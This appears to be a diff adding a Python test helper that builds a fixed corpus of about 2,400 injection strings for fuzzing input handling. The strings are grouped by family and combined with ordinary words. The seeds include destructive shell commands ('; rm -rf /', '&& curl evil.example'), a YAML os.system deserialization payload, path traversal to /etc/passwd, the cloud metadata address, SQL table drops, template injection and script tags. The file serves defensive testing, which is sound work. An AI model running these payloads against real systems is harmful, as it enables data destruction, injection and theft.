@@ -1,0 +1,187 @@
+"""More than two thousand texts that break out of something, by family: what each is meant to break is its name."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Mapping
+
+from tests.runbooks.test_command import hostile
+
+SEEDS: Mapping[str, tuple[str, ...]] = {
+    "shell": (
+        "; rm -rf /",
+        "$(id)",
+        "`id`",
+        "| sh",
+        "&& curl evil.example",
+        "${IFS}",
+        "> /tmp/x",
+        "'\"; id #",
+        "-rf",
+        "--help",
+        "~root",
+    ),
+    "yaml": (
+        "!!python/object/apply:os.system [id]",
+        "a: b",
+        "- x",
+        "&a *a",
+        "{a: b}",
+        "|",
+        ">-",
+        "# c",
+        "? k",
+        "---",
+        "yes",
+        "null",
+        "0x1f",
+        "1e3",
+        "<<: *x",
+    ),
+    "json": (
+        '"}',
+        '", "replicas": 0, "x": "',
+        '{"$ne": null}',
+        "[]",
+        "{}",
+        "\\",
+        "\\u0000",
+        '\\"',
+        "true",
+        "NaN",
+        '{"__proto__": {}}',
+    ),
+    "path": (
+        "../",
+        "..",
+        ".",
+        "/etc/passwd",
+        "..%2f..%2f",
+        "%2e%2e/",
+        "a/../../b",
+        "//evil.example/",
+        "a//b",
+        "\\..\\..",
+        "file:///etc/passwd",
+        "a/b",
+        "%00",
+        "a;b",
+        "a?b=c",
+        "a#b",
+        "_all",
+        "*",
+        "a,b",
+    ),
+    "header": (
+        "\r\nX-Evil: 1",
+        "\nHost: evil.example",
+        "\r",
+        "%0d%0aX: 1",
+        "a\r\n\r\nGET / HTTP/1.1",
+        "\x0b",
+        "\x0c",
+        "\x85",
+        "\u2028",
+        "\u2029",
+    ),
+    "url": (
+        "http://evil.example/",
+        "//evil.example",
+        "@evil.example",
+        "127.0.0.1:80@evil.example",
+        "http://169.254.169.254/latest",
+        "javascript:alert(1)",
+        "a:b@c",
+        "gopher://x",
+    ),
+    "promql": ('"} or up{x="', "~.*", "up[5m]", "})) by (x", "{__name__=~'.+'}", "or vector(1)"),
+    "sql": (
+        "' OR '1'='1",
+        "'; DROP TABLE plans; --",
+        "1 UNION SELECT 1",
+        "/* */",
+        "%",
+        "\\'",
+        "admin'--",
+        "0; SELECT pg_sleep(9)",
+    ),
+    "template": (
+        "{service}",
+        "{scope.pod}",
+        "{{7*7}}",
+        "${7*7}",
+        "{%raw%}",
+        "<%= 7 %>",
+        "#{7}",
+        "{0.__class__}",
+        "%(x)s",
+        "%s%n",
+        "{replicas_now + 2}",
+        "$(VAR)",
+    ),
+    "script": (
+        "ctx._source.clear()",
+        "params.key",
+        "Runtime.getRuntime()",
+        "<script>alert(1)</script>",
+        "ctx.op='delete'",
+        "return 1",
+    ),
+    "unicode": (
+        "\u202eevil",
+        "\u200b",
+        "\ufeffx",
+        "\uff0e\uff0e\uff0f",
+        "ﬁ",
+        "e\u0301",
+        "\u0430dmin",
+        "\U000e0041",
+        "\U0001f600",
+        "١٢",
+        "\u2215",
+        "\u00ad",
+        "Ⅷ",
+    ),
+    "mrkdwn": (
+        "<!channel>",
+        "<@U012345>",
+        "<https://evil.example|here>",
+        "*bold*",
+        "```",
+        "&lt;",
+        "<!here>",
+        "_x_",
+        "~x~",
+        ":rotating_light:",
+    ),
+    "control": ("\0", "a\0b", "\x1b[2J", "\x07", "\x08", "\x7f", "\t", "\x00\x00", "\x1b]0;x\x07", "\n", " ", ""),
+    "long": ("A" * 301, "a" * 1001, "a" * 70_000, "../" * 500, "9" * 400, "-" * 200, "\u00e9" * 600, "a." * 300),
+    "number": ("-1", "0", "1e309", "٣", "0x10", "1_000", "+5", "9" * 20, "1.0", "NaN", "Infinity", "true", " 5", "5 "),
+    "word": (
+        "on",
+        "7",
+        "chat",
+        "production",
+        "none",
+        "DRAFT",
+        "Q1",
+        "docs-v1",
+        "0123456789",
+        "env.TOP_K",
+        "128Mi",
+        "5m",
+    ),
+}
+
+
+def payloads(count: int = 2400) -> list[str]:
+    """All seeds, their combinations with words and with each other, and any other text; the same ones always."""
+    rng = random.Random(count)
+    seeds = [seed for family in SEEDS.values() for seed in family]
+    found = dict.fromkeys(seeds)
+    while len(found) < count - 400:
+        one, other = rng.choice(seeds)[:1000], rng.choice(seeds)[:1000]
+        word = rng.choice(SEEDS["word"])
+        found[rng.choice((word + one, one + word, one + other, f"{word} {one}", f"{word}{one}{word}"))] = None
+    found.update(dict.fromkeys(hostile(count - len(found))))
+    return list(found)
